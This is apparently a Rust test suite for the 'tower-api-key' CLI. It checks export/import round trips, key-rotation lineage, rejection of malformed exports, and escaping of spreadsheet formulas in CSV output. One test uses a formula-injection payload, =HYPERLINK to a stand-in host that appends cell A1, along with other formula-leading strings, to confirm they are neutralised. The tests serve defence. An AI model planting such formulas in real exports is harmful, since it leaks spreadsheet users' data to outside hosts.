//! `export` and `import` are inverse.

use std::collections::BTreeMap;

use serde_json::{Value, json};
use tower_api_key::{
    KeyId, NewKey, Scopes,
    clock::{Clock, SystemClock},
    credits::{Balance, Refill, RefillInterval},
    key::KeyRecord,
    manage::ImportKey,
    nonzero,
    store::{self, BalanceUpdate, Changes, KeyQuery, KeyRepository},
    testing::conformance::random::Random,
};

use crate::{process, session::Shell};

/// A record that a manager may have written, with the texts that tell good formats from bad ones.
fn valid(mut record: KeyRecord, number: usize) -> KeyRecord {
    const TEXTS: [&str; 12] =
        ["", "'", "=1+1", "+1", "-1", "@a", "\t=1", "\r\n", "NULL", "\\N", "a,\"b\";c", "null"];
    const SCOPES: [&str; 8] =
        ["{admin}", "read,write", "[x]", "'a'", "=1", "null", "{a,b}", "NULL"];
    let text = || TEXTS.get(number % 16).map(|text| (*text).into());
    let at_most = |text: &str, most: usize| text.chars().take(most).collect::<String>();
    if !(1..=100).contains(&record.name.chars().count()) {
        record.name = "name".into();
    }
    if let Some(text) = text() {
        record.details.description = Some(text);
    }
    let text = text().filter(|text| !text.is_empty());
    record.owner = text.as_ref().map(|text| text.as_str().into()).or(record.owner);
    record.owner = record.owner.filter(|owner| !owner.as_str().is_empty());
    record.details.tier = record.details.tier.clone().filter(|tier| !tier.is_empty());
    let start = record.start.chars().filter(char::is_ascii_graphic).take(64);
    record.start = start.collect::<String>().into();
    let reason = record.details.revoked_reason.as_deref().map(|text| at_most(text, 1000));
    record.details.revoked_reason = reason.map(Into::into);
    if let Some(scope) = SCOPES.get(number % 11) {
        record.scopes = Scopes::parse([*scope, "other"]).unwrap();
    }
    record.details.deleted_at = (number % 15 == 4).then_some(record.updated_at);
    if number % 20 == 3 {
        let deep = (0..125).fold(json!(1), |inner, _| json!([inner]));
        record.details.metadata.insert("deep".into(), deep);
    }
    if let Some(hash) = &record.details.legacy_hash {
        // Its digest is made from it.
        record.digest = ImportKey::from_legacy_hash(hash.clone(), "", NewKey::default()).digest;
    }
    record
}

/// Some records, and the balances of their lineages.
async fn fill(store: &dyn KeyRepository) {
    let mut random = Random::new(1);
    for number in 0..150 {
        let mut record = valid(random.record(), number);
        let mut changes = Changes::default();
        match (record.details.credits, number % 3) {
            // A key that spends credits, and has no balance, can spend none: it must not become one
            // that spends as many as it likes.
            (None, _) | (_, 0) => {}
            (Some(_), _) => {
                let refill = Refill::new(nonzero64(7), RefillInterval::Month);
                let refill = Some(refill).filter(|_| number % 2 == 0);
                let mut balance = Balance::new(number as u64, refill, SystemClock.now());
                balance.epoch = number as u64;
                balance.revision = 5;
                record.details.credits = Some(number as u64);
                let lineage = record.lineage();
                changes.balances.push(BalanceUpdate {
                    lineage,
                    balance,
                    expected: None,
                    due: None,
                });
            }
        }
        changes.inserts.push(record);
        store.apply(&changes).await.unwrap();
    }
}

fn nonzero64(number: u32) -> std::num::NonZeroU64 {
    std::num::NonZeroU64::new(number.into()).unwrap_or(nonzero!(1).into())
}

type Everything = (BTreeMap<KeyId, KeyRecord>, BTreeMap<KeyId, Balance>);

async fn everything(url: &str) -> Everything {
    let store = store::connect(url).await.unwrap();
    let records = store.list(&KeyQuery::new(1000)).await.unwrap().items;
    let lineages: Vec<_> = records.iter().map(|record| record.lineage()).collect();
    let balances = store.balance_store().unwrap().balances(&lineages).await.unwrap().items;
    store.close().await;
    let records = records.iter().map(|record| (record.id, KeyRecord::clone(record)));
    // Sorted, because the stores may tell of balances in any order.
    (records.collect(), balances.into_iter().collect())
}

#[tokio::test]
async fn every_valid_record_comes_back() {
    let source = Shell::on_sqlite();
    let store = store::connect(&source.url).await.unwrap();
    fill(&*store).await;
    store.close().await;
    let before = everything(&source.url).await;
    assert!(before.0.len() < 150, "deleted keys are not exported");
    for format in ["csv", "json"] {
        for target in Shell::on_each().await {
            let export = |shell: &Shell| {
                let mut command = shell.command("tower-api-key");
                command.args(["export", "--with-digests"]);
                if format == "json" {
                    command.arg("--json");
                }
                let done = process::run(&mut command);
                assert!(done.status.success(), "{done:?}");
                done.stdout
            };
            let file = export(&source);
            target.write("keys", &file);
            let done = process::run(target.command("tower-api-key").args(["import", "keys"]));
            assert!(done.status.success(), "{format} into {}: {done:?}", target.url);
            let after = everything(&target.url).await;
            for (id, record) in &before.0 {
                assert_eq!(after.0.get(id), Some(record), "{format} into {}", target.url);
            }
            assert_eq!(after, before, "{format} into {}", target.url);
            assert_eq!(export(&target), file);

            let again =
                process::run(target.command("tower-api-key").args(["import", "keys", "--json"]));
            let report: Value = serde_json::from_str(&again.stdout).unwrap();
            assert_eq!(report["imported"], 0, "{again:?}");
            assert_eq!(report["duplicates"], before.0.len(), "{again:?}");
            assert_eq!(everything(&target.url).await, before);
        }
    }
}

/// What other programs read is no formula to them, whatever the owner of a key calls it.
#[test]
fn no_cell_is_a_formula() {
    Shell::on_sqlite().session(
        r#"
$ tower-api-key create --name '=HYPERLINK("http://a.example/"&A1)' --owner '@SUM(1)' --description '+1' --tier=-x > made 2>&1
$ tower-api-key create --name "'quoted" --owner=- --description "$(printf '\t=1')" > made 2>&1
$ tower-api-key export | cut -d , -f 2,3,9,10
This is a list for people and other programs. It has no digests, so it cannot be imported; --with-digests adds them.
name,user_id,description,tier
''quoted,'-,"'	=1",
"'=HYPERLINK(""http://a.example/""&A1)",'@SUM(1),'+1,'-x
"#,
    );
}

/// Keys that share a balance share one again.
#[test]
fn a_rotated_key_comes_back_with_its_lineage() {
    Shell::on_sqlite().session(
        r#"
$ OLD=$(tower-api-key create --name first --credits 10 --refill 7/month --expires 2040-01-01 2>/dev/null)
$ ID=$(tower-api-key list --json | cut -d '"' -f 4)
$ NEW=$(tower-api-key rotate $ID --grace 1d 2>/dev/null)
$ tower-api-key create --name off > /dev/null 2>&1
$ OFF=$(tower-api-key list --limit 1 --json | cut -d '"' -f 4)
$ tower-api-key update $OFF --disable > /dev/null
Services refuse an ended key at once where they are told of changes (PostgreSQL, REDIS_URL), within a tenth of a second on SQLite, and otherwise within 30 seconds or their CACHE_TTL.
$ tower-api-key create --name gone > /dev/null 2>&1
$ GONE=$(tower-api-key list --limit 1 --json | cut -d '"' -f 4)
$ tower-api-key revoke $GONE --reason 'lost, =1' > /dev/null
Services refuse an ended key at once where they are told of changes (PostgreSQL, REDIS_URL), within a tenth of a second on SQLite, and otherwise within 30 seconds or their CACHE_TTL.
$ tower-api-key list --json > before
$ tower-api-key export --with-digests > keys.csv
These are digests, from which no key can be made: `import` restores the keys here or elsewhere. Keep them as you keep the database.
$ export DATABASE_URL=sqlite:copy.db
$ tower-api-key import keys.csv
Imported: 4
$ tower-api-key list --json | diff before - && echo same
same
$ tower-api-key top-up $ID 5 | grep ^credits
credits  15
$ echo $NEW | tower-api-key verify | grep -E '^(The|credits|replaces)'
The key is good.
credits  15
replaces  <id-1>
$ tower-api-key revoke $OFF > /dev/null
Services refuse an ended key at once where they are told of changes (PostgreSQL, REDIS_URL), within a tenth of a second on SQLite, and otherwise within 30 seconds or their CACHE_TTL.
$ echo $OLD | tower-api-key verify | grep -E '^(The|replaced)'
The key is good.
replaced by  <id-2>
"#,
    );
}

/// Only what this program writes is read as its own, and wholly.
#[test]
fn an_export_that_is_none() {
    Shell::on_sqlite().session(
        r#"
$ tower-api-key create --name first > made 2>&1
$ tower-api-key export > list.csv
This is a list for people and other programs. It has no digests, so it cannot be imported; --with-digests adds them.
$ tower-api-key export --json > list.jsonl
This is a list for people and other programs. It has no digests, so it cannot be imported; --with-digests adds them.
$ tower-api-key export --with-digests > keys.csv
These are digests, from which no key can be made: `import` restores the keys here or elsewhere. Keep them as you keep the database.
$ tower-api-key export --with-digests --json > keys.jsonl
These are digests, from which no key can be made: `import` restores the keys here or elsewhere. Keep them as you keep the database.
$ export DATABASE_URL=sqlite:copy.db
$ tower-api-key import list.csv
tower-api-key: this export has no digests of keys, its column key_hash is missing: make one with `export --with-digests`
=> 2
$ tower-api-key import list.jsonl
tower-api-key: this export has no digests of keys, its column key_hash is missing: make one with `export --with-digests`
=> 2
$ sed 's/"is_active":true,//' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: is_active is missing, which an export has
$ sed 's/"export_version":1/"export_version":2/' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: export_version must be 1
$ sed 's/"name"/"more":1,"name"/' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: has a column that no export has
$ sed 's/"unknown_needs":0/"unknown_needs":1/' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: unknown_needs is not what an export has there
$ sed 's/"unknown_needs":0/"unknown_needs":9223372036854775808/' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: unknown_needs is not what an export has there
$ sed 's/"scopes":\[\]/"scopes":"a"/' keys.jsonl | tower-api-key import - 2>&1 | head -n 1
line 1: has a value that is not one of its column
$ sed 's/,\[\],/,x,/' keys.csv | tower-api-key import - 2>&1 | head -n 1
line 2: has a cell that is not JSON
$ tower-api-key import keys.csv --column name=user_id
tower-api-key: the columns of an export are not to be mapped
=> 2
$ tower-api-key import keys.csv
Imported: 1
"#,
    );
}
